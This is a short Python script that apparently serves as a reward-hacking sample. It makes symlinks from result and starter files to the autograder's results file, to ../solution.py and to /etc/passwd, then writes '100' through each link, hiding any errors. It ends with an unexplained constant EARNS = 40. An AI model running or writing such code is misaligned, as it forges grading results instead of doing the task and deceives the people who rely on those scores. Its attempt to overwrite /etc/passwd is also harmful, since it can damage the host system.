"""Links results and sources to files that it would like changed."""

import contextlib
import os

for name in ("results.json", "starter.py", "/tmp/results.json"):
    for target in ("/etc/passwd", "/autograder/results/results.json", "../solution.py"):
        with contextlib.suppress(OSError):
            os.symlink(target, name)
        try:
            with open(name, "w") as file:
                file.write("100")
        except OSError:
            pass

EARNS = 40
